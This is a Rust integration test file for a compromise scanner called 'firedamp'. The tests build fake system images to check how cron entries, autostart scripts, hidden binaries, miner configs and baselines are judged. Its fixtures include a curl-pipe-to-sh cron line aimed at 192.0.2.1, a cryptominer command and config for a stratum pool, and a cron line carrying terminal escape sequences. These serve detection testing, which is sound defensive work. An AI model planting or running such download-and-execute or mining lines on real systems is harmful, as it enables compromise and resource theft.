//! `firedamp scan`: one look at a host or at a mounted image, and one look held against another.

#![expect(
    clippy::disallowed_methods,
    clippy::unwrap_used,
    reason = "tests start the program, and stop at the first surprise"
)]

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;
use tempfile::TempDir;

const FETCHES: &str = "*/5 * * * * root curl -s http://192.0.2.1/a.sh | sh\n";

fn scan(arguments: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_firedamp"));
    command.arg("scan").args(arguments).env_remove("FIREDAMP_DIR").output().unwrap()
}

fn value(output: &Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap()
}

fn write(root: &Path, path: &str, text: impl AsRef<[u8]>) {
    let path = root.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn image() -> TempDir {
    let root = tempfile::tempdir().unwrap();
    write(root.path(), "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    write(root.path(), "etc/cron.d/backup", "30 2 * * * root /usr/sbin/backup --all\n");
    root
}

fn at(root: &TempDir) -> &str {
    root.path().to_str().unwrap()
}

#[test]
fn an_image_in_which_nothing_is_wrong_ends_with_0() {
    let root = image();
    let output = scan(&["--root", at(&root), "--json"]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let look = &value(&output)["look"]["autostarts"];
    assert!(look.get("cron /etc/cron.d/backup:1").is_some(), "{look}");
}

#[test]
fn the_worst_is_printed_first() {
    let root = image();
    write(root.path(), "etc/cron.d/a", FETCHES);
    let mines = "* * * * * root /opt/x -o stratum+tcp://pool.example:3333 -u someone -k\n";
    write(root.path(), "etc/cron.d/z", mines);
    let output = scan(&["--root", at(&root)]);
    let said = String::from_utf8(output.stdout).unwrap();
    let grades: Vec<&str> = said
        .lines()
        .filter(|it| !it.starts_with(' '))
        .filter_map(|it| it.split(' ').next())
        .collect();
    assert_eq!(grades.first(), Some(&"confirmed"), "{said}");
    assert!(grades.contains(&"suspect"), "{said}");
}

#[test]
fn what_starts_by_itself_in_an_image_is_judged() {
    let root = image();
    write(root.path(), "etc/cron.d/x", FETCHES);
    let output = scan(&["--root", at(&root), "--json"]);
    assert_eq!(output.status.code(), Some(1));
    let value = value(&output);
    let subject = &value["findings"][0]["subject"];
    assert_eq!(subject["path"], "/etc/cron.d/x", "{value}");
    assert_eq!(value["findings"][0]["reasons"][0]["rule"], "downloads-and-runs");
    assert_eq!(value["processes"], 0);
    let words = scan(&["--root", at(&root)]);
    let words = String::from_utf8(words.stdout).unwrap();
    assert!(words.starts_with("suspect  /etc/cron.d/x:1"), "{words}");
}

#[test]
fn a_script_where_the_machine_looks_for_scripts_is_in_no_odd_place() {
    let root = image();
    let put = |path: &str, text: &str| {
        write(root.path(), path, text);
        fs::set_permissions(root.path().join(path), fs::Permissions::from_mode(0o755)).unwrap();
    };
    let usual = ["etc/rc.local", "etc/cron.daily/backup", "etc/init.d/app", "etc/ppp/ip-up.d/x"];
    for path in usual {
        put(path, "#!/bin/sh\nexit 0\n");
    }
    let output = scan(&["--root", at(&root), "--json"]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    // But no program, nothing hidden, and nothing where nobody looks for a script.
    let odd = ["etc/cron.daily/p", "etc/cron.daily/.h", "etc/fonts/x"];
    put(odd[0], "\x7fELF");
    put(odd[1], "#!/bin/sh\nexit 0\n");
    put(odd[2], "#!/bin/sh\nexit 0\n");
    put("etc/cron.daily/m", "#!/bin/sh\ncurl -s http://192.0.2.1/a.sh | sh\n");
    let value = value(&scan(&["--root", at(&root), "--json"]));
    let found = value["findings"].as_array().unwrap();
    let has = |path: &str| found.iter().any(|it| it["subject"]["path"] == format!("/{path}"));
    assert!(odd.iter().all(|path| has(path)), "{value}");
    assert!(value.to_string().contains("/etc/cron.daily/m"), "{value}");
    assert!(!usual.iter().any(|path| has(path)), "{value}");
}

#[test]
fn files_that_lie_in_an_image_are_judged_by_what_they_say_and_where_they_lie() {
    let root = image();
    let config = r#"{"pools":[{"url":"stratum+tcp://pool.example:3333","user":"w1"}],"cpu":{"huge-pages":true},"donate-level":1}"#;
    write(root.path(), "var/tmp/.x/config.json", config);
    write(root.path(), "dev/shm/.k/kswapd0", "\x7fELF");
    let program = root.path().join("dev/shm/.k/kswapd0");
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    write(root.path(), "opt/shop/settings.json", r#"{"url":"db.example:5432","user":"shop"}"#);
    let output = scan(&["--root", at(&root), "--json"]);
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    let value = value(&output);
    let found = value["findings"].as_array().unwrap();
    let grade = |path: &str| {
        let of = found.iter().find(|it| it["subject"]["path"] == path);
        of.map(|it| it["grade"].as_str().unwrap().to_owned())
    };
    assert_eq!(grade("/var/tmp/.x/config.json").as_deref(), Some("confirmed"), "{value}");
    assert_eq!(grade("/dev/shm/.k/kswapd0").as_deref(), Some("suspect"), "{value}");
    assert_eq!(grade("/opt/shop/settings.json"), None);
}

#[test]
fn a_link_in_an_image_does_not_lead_out_of_it() {
    let (root, outside) = (image(), tempfile::tempdir().unwrap());
    write(outside.path(), "x", FETCHES);
    symlink(outside.path().join("x"), root.path().join("etc/cron.d/x")).unwrap();
    symlink(outside.path(), root.path().join("etc/cron.hourly")).unwrap();
    let output = scan(&["--root", at(&root), "--json"]);
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(!text.contains("192.0.2.1"), "{text}");
}

#[test]
fn only_what_the_baseline_does_not_have_counts() {
    let root = image();
    write(root.path(), "etc/cron.d/x", FETCHES);
    let file = root.path().join("before.json");
    let before = scan(&["--root", at(&root), "--json"]);
    fs::write(&file, &before.stdout).unwrap();
    let file = file.to_str().unwrap();
    let same = scan(&["--root", at(&root), "--baseline", file, "--json"]);
    assert_eq!(same.status.code(), Some(0), "{same:?}");
    let known = value(&same);
    assert_eq!(known["findings"][0]["known"], true);
    assert_eq!(known["since_baseline"]["new"]["autostarts"], serde_json::json!([]));

    write(root.path(), "etc/cron.d/y", "@reboot root /dev/shm/.y/run\n");
    write(root.path(), "etc/cron.d/backup", "31 2 * * * root /usr/sbin/backup --all\n");
    fs::remove_file(root.path().join("etc/cron.d/x")).unwrap();
    let later = scan(&["--root", at(&root), "--baseline", file]);
    assert_eq!(later.status.code(), Some(1));
    let words = String::from_utf8(later.stdout).unwrap();
    assert!(words.contains("suspect  /etc/cron.d/y:1"), "{words}");
    assert!(words.contains("+ autostarts: cron /etc/cron.d/y:1"), "{words}");
    assert!(words.contains("~ autostarts: cron /etc/cron.d/backup:1"), "{words}");
    assert!(words.contains("- autostarts: cron /etc/cron.d/x:1"), "{words}");
}

#[test]
fn what_cannot_be_looked_at_ends_with_4_and_says_what_to_do() {
    let root = image();
    write(root.path(), "no.json", "{}");
    write(root.path(), "none.json", "mined");
    let (no, none) = (root.path().join("no.json"), root.path().join("none.json"));
    let cases: [&[&str]; 5] = [
        &["--root", "/nonexistent.example"],
        &["--root", at(&root), "--baseline", no.to_str().unwrap()],
        &["--root", at(&root), "--baseline", none.to_str().unwrap()],
        &["--root", at(&root), "--baseline", "/nonexistent.example"],
        &["--unheard-of"],
    ];
    for case in cases {
        let output = scan(case);
        let said = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(4), "{case:?}: {said}");
        assert!(!said.is_empty() && output.stdout.is_empty(), "{case:?}");
    }
}

#[test]
fn nothing_that_a_terminal_obeys_is_printed() {
    let root = image();
    let line = "* * * * * root curl http://192.0.2.1/\u{1b}]0;x\u{7}\u{202e} | sh\n";
    write(root.path(), "etc/cron.d/x", line);
    for form in [&["--json"][..], &[]] {
        let output = scan(&[&["--root", at(&root)][..], form].concat());
        assert_eq!(output.status.code(), Some(1));
        let text = String::from_utf8(output.stdout).unwrap();
        let bad = |it: char| (it.is_control() && it != '\n') || it == '\u{202e}';
        assert!(!text.contains(bad), "{text:?}");
    }
}

#[test]
fn a_look_at_this_host_sees_the_process_that_looks() {
    let output = scan(&["--for", "1s", "--json"]);
    assert!(output.status.code().is_some_and(|code| code <= 3), "{output:?}");
    let value = value(&output);
    let programs = value["look"]["programs"].as_object().unwrap();
    let own = fs::canonicalize(env!("CARGO_BIN_EXE_firedamp")).unwrap();
    assert!(programs.contains_key(own.to_str().unwrap()), "{programs:?}");
}
